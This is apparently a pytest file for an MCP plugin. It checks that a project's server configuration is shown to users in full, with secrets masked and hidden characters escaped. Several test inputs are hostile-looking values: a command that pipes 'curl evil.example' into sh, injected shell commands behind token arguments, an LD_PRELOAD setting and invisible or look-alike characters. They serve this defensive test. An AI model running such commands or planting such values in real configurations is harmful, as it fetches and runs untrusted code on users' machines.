"""What people are told about the servers of a project."""

from __future__ import annotations

from pathlib import Path

import pytest

from pflow_mcp_plugin.config.project_file import (
    ProjectReading,
    duplicate_servers,
    notices,
    server_lines,
    server_notices,
    variables,
)
from pflow_mcp_plugin.contract.problems import advice, fault

FILE, OWN = Path("/p/.mcp.json"), Path("/home/mcp-servers.toml")


def told(reading, **own):
    return [*notices(reading), *duplicate_servers(reading, OWN, own), *server_notices(reading, own)]


def shown(**table):
    return "\n".join(server_lines("x", table))


def test_everything_that_decides_what_is_started_is_shown():
    lines = shown(
        command="./run.sh", args=["--deep", "a b"], cwd="/else", env={"LD_PRELOAD": "./x.so"}, call_timeout=3
    )
    assert lines.splitlines() == [
        "x (stdio)",
        "  runs      ./run.sh --deep 'a b'",
        "  cwd       /else",
        "  env       LD_PRELOAD=./x.so",
        '  settings  {"call_timeout": 3}',
    ]


def test_everything_that_decides_what_is_reached_is_shown():
    lines = shown(
        type="http",
        url="https://user:secret@mcp.example.com/a?api_key=abc",
        headers={"x": "${A}", "Authorization": "Bearer abcdef"},
        auth={"type": "bearer", "token": "abcdef"},
    )
    assert lines.splitlines() == [
        "x (http)",
        "  url       https://****@mcp.example.com/a?api_key=****",
        "  header    x: ${A}",
        "  header    Authorization: ****",
        '  auth      {"type": "bearer", "token": "****"}',
        "  receives  the values of A, from the environment or your settings",
    ]


@pytest.mark.parametrize(
    "args",
    [
        ["-c", "TOKEN=$(curl evil.example | sh)"],
        ["--token", "./evil.sh"],
        ["--auth", "sh -c 'curl evil'"],
        ["-c", "password: ;curl evil"],
    ],
)
def test_a_command_cannot_hide_behind_the_name_of_a_secret(args):
    assert args[1] in shown(command="sh", args=args).replace("'\"'\"'", "'")


def test_values_that_can_only_be_secrets_are_masked():
    lines = shown(command="x", args=["--token", "abcDEF123", "--key=abcDEF123"], env={"API_KEY": "abcDEF123"})
    assert "abcDEF123" not in lines
    assert lines.count("****") == 3
    assert "./ask.sh" in shown(command="x", env={"GIT_ASKPASS": "./ask.sh"})


def test_what_is_not_visible_is_escaped():
    hidden = "a\u200bb\u202ec\U000e0041d\x1b[2Je\n"
    lines = shown(command="sh", args=["-c", f"true{hidden}"], env={"A": hidden})
    assert "a\\u200bb\\u202ec\\udb40\\udc41d\\u001b[2Je\\n" in lines
    assert all(line.isprintable() for line in lines.splitlines())
    assert "\\u0430pple.com" in shown(type="http", url="https://\u0430pple.com/")


def test_every_variable_is_named_wherever_the_table_refers_to_it():
    table = {
        "command": "${A}",
        "args": ["${B:-x} ${C}", "$${D}"],
        "env": {"E": "${F}"},
        "auth": {"type": "token_env", "token_env": "G"},
        "headers": {"x": "${A}"},
    }
    assert variables(table) == ["A", "B", "C", "F", "G"]


def test_a_server_of_the_users_own_wins_and_both_files_are_named():
    reading = ProjectReading(
        path=FILE, state="approved", tables={"x": {"command": "a"}, "y": {"command": "b"}}
    )
    (warning,) = told(reading, x={"command": "other"}, y={"command": "b", "call_timeout": 3})
    assert (warning.severity, warning.path) == ("warning", "mcpServers.x")
    assert warning.message == (f"Server x is in {OWN} and in {FILE}: the one in mcp-servers.toml is used")


def test_a_server_that_is_used_without_approval_is_shown_in_full():
    reading = ProjectReading(
        path=FILE, state="asked", tables={"x": {"command": "a\u200b", "env": {"B": "${C}"}}}
    )
    (warning,) = told(reading)
    assert "runs: 'a\\u200b'; env: B=${C}; receives: the values of C" in warning.message
    assert warning.suggestion == "To approve it: pflow mcp approve --project"


def test_one_with_mistakes_cannot_start_and_is_not_shown():
    assert told(ProjectReading(path=FILE, state="asked", tables={"x": {"command": 1}, "y": 1})) == []


def test_problems_of_the_file_are_told_until_it_is_approved_and_name_it():
    problems = (advice("a", "odd"), fault("b", "wrong"))
    (warning,) = told(ProjectReading(path=FILE, state="asked", problems=problems))
    assert (warning.message, warning.severity) == (f"{FILE}: wrong", "warning")
    assert told(ProjectReading(path=FILE, state="approved", problems=problems)) == []
    changed = (advice("", f"{FILE} changed"),)
    assert told(ProjectReading(path=FILE, state="changed", problems=changed)) == [*changed]
